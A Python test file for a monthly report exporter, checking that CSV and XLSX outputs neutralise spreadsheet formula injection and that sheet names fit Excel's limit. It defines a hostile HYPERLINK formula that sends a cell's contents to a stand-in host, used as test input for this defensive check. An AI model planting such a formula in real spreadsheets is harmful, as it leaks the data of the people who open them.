"""The monthly report's files (月度通报, CSV and XLSX) keep every cell text: an alert's
message carries numbers and names a unit's system wrote, and a prosecutor opening the
report must not run a formula one of them planted (formula injection)."""

from __future__ import annotations

import csv
import io
from datetime import date

import openpyxl

from hub.view.i18n import Translator
from hub.view.reports import MonthlyReport, OverdueItem, ReportRow, to_csv, to_xlsx

HOSTILE = '=HYPERLINK("http://x.example/?"&B3,"详情")'


def _report() -> MonthlyReport:
    row = ReportRow(unit_code="+TESTUNIT", unit_name="@示例市场监管局", penalty_cases_entered=3,
                    penalty_cases_entered_late=1, timeliness_rate=2 / 3, referrals=1,
                    receipts=1, filing_decisions=0, feedback_rate=None,
                    median_days_to_decision=None, arrest_requests=0,
                    transfers_for_prosecution=0, non_filing_explanations=0,
                    alerts_raised=2, open_overdue_alerts=1)
    item = OverdueItem(unit_code="TESTUNIT", unit_name="示例市场监管局", case_id="c-1",
                       kind="FILING_DECISION_OVERDUE", due_date=date(2026, 3, 1),
                       message=HOSTILE)
    return MonthlyReport(month="2026-03", rows=[row], overdue=[item])


def test_the_xlsx_report_holds_no_formula_and_the_text_as_written() -> None:
    book = openpyxl.load_workbook(io.BytesIO(to_xlsx(_report(), Translator("zh"))))
    cells = [cell for sheet in book.worksheets for cells in sheet.iter_rows()
             for cell in cells]
    assert not any(cell.data_type == "f" for cell in cells)
    texts = {cell.value for cell in cells}
    assert {HOSTILE, "+TESTUNIT", "@示例市场监管局"} <= texts
    assert 3 in texts  # figures stay numbers


def test_the_csv_report_marks_formula_like_text_as_text() -> None:
    text = to_csv(_report(), Translator("zh")).decode("utf-8-sig")
    [_header, row] = list(csv.reader(io.StringIO(text)))
    assert row[0] == "'+TESTUNIT" and row[1] == "'@示例市场监管局"
    assert row[2] == "3"


def test_every_sheet_name_fits_a_workbook() -> None:
    """A sheet title is at most 31 characters (Excel's limit; openpyxl warns and the
    report failed): every ``sheet_*`` text of every language is a sheet name."""
    from hub.view.i18n import LANGUAGES, catalogue

    for language in LANGUAGES:
        for key, text in catalogue(language).items():
            if key.rsplit(".", 1)[-1].startswith("sheet_"):
                assert len(text) <= 31, (language, key, text)
